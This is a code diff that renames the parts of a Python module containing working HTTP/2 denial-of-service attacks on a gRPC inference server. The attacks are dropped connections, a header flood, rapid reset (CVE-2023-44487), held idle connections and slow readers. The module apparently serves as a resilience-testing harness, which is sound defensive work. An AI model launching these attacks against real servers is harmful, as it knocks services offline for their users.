@@ -35,13 +35,13 @@ GIVE_UP_S: Final = 0.5
 Attack = Callable[[str], Awaitable[None]]
 
 
-async def connected(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+async def open_connection(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
     """A connection on which nothing was said."""
     host, _, port = address.rpartition(":")
     return await asyncio.open_connection(host, int(port))
 
 
-class Drops:
+class DroppedConnections:
     """Connections opened and dropped, every other one after the HTTP/2 preface."""
 
     def __init__(self) -> None:
@@ -49,14 +49,14 @@ class Drops:
 
     async def __call__(self, address: str) -> None:
         """Open one, and drop it."""
-        _, writer = await connected(address)
+        _, writer = await open_connection(address)
         self._count += 1
         if self._count % 2:
             writer.write(PREFACE + frame(SETTINGS, 0, 0))
         writer.transport.abort()
 
 
-class Headers:
+class HeaderFlood:
     """A header block far beyond the limit, over eight frames, on a connection of its own."""
 
     def __init__(self) -> None:
@@ -71,7 +71,7 @@ class Headers:
 
     async def __call__(self, address: str) -> None:
         """Send it, and stay until the server closes, GIVE_UP_S at most."""
-        reader, writer = await connected(address)
+        reader, writer = await open_connection(address)
         try:
             async with asyncio.timeout(GIVE_UP_S):
                 writer.write(self._frames)
@@ -81,7 +81,7 @@ class Headers:
             writer.transport.abort()
 
 
-class Resets:
+class RapidReset:
     """Calls opened and taken back at once, CALLS on a connection of its own (CVE-2023-44487, "rapid reset").
 
     Args:
@@ -93,8 +93,8 @@ class Resets:
 
     async def __call__(self, address: str) -> None:
         """Open and take back, and stay until all was taken in or the server closes, GIVE_UP_S at most."""
-        reader, writer = await connected(address)
-        block = hpack.Encoder().encode(fields(address, "ModelInfer"))
+        reader, writer = await open_connection(address)
+        block = hpack.Encoder().encode(call_headers(address, "ModelInfer"))
         taken_back = struct.pack("!I", CANCEL)
         writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
         for stream in range(1, 2 * CALLS, 2):
@@ -111,7 +111,7 @@ class Resets:
             writer.transport.abort()
 
 
-class Held:
+class HeldConnections:
     """Connections that are held without another word.
 
     Args:
@@ -124,7 +124,7 @@ class Held:
 
     async def __call__(self, address: str) -> None:
         """Hold one more."""
-        _, writer = await connected(address)
+        _, writer = await open_connection(address)
         writer.write(self._said)
         self.held.append(writer)
 
@@ -148,30 +148,30 @@ class SlowReaders:
 
     async def __call__(self, address: str) -> None:
         """Hold one more."""
-        _, writer = await connected(address)
+        _, writer = await open_connection(address)
         closed = struct.pack(">HI", INITIAL_WINDOW, 0)
         writer.write(PREFACE + frame(SETTINGS, 0, 0, closed) + frame(SETTINGS, ACK, 0))
-        writer.write(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(fields(address, "ModelStreamInfer"))))
+        writer.write(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(call_headers(address, "ModelStreamInfer"))))
         for _ in range(min(UNREAD, 60_000 // len(self._message))):  # what the first window of a stream holds
             writer.write(frame(DATA, 0, 1, self._message))
         self.held.append(writer)
 
 
-def fields(address: str, method: str) -> list[tuple[str, str]]:
+def call_headers(address: str, method: str) -> list[tuple[str, str]]:
     """The header of a call."""
     path = f"/inference.GRPCInferenceService/{method}"
     about = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
     return [*about, ("content-type", "application/grpc"), ("te", "trailers"), ("x-tenant-id", "attacker")]
 
 
-def prepared(kind: str, body: bytes) -> Attack:
+def make_attack(kind: str, body: bytes) -> Attack:
     """An attack by its name."""
     kinds: dict[str, Callable[[], Attack]] = {
-        "drops": Drops,
-        "headers": Headers,
-        "half-open": lambda: Held(HALF_OPEN),
-        "idle": lambda: Held(IDLE),
-        "resets": lambda: Resets(body),
+        "drops": DroppedConnections,
+        "headers": HeaderFlood,
+        "half-open": lambda: HeldConnections(HALF_OPEN),
+        "idle": lambda: HeldConnections(IDLE),
+        "resets": lambda: RapidReset(body),
         "slow-readers": lambda: SlowReaders(body),
     }
     return kinds[kind]()
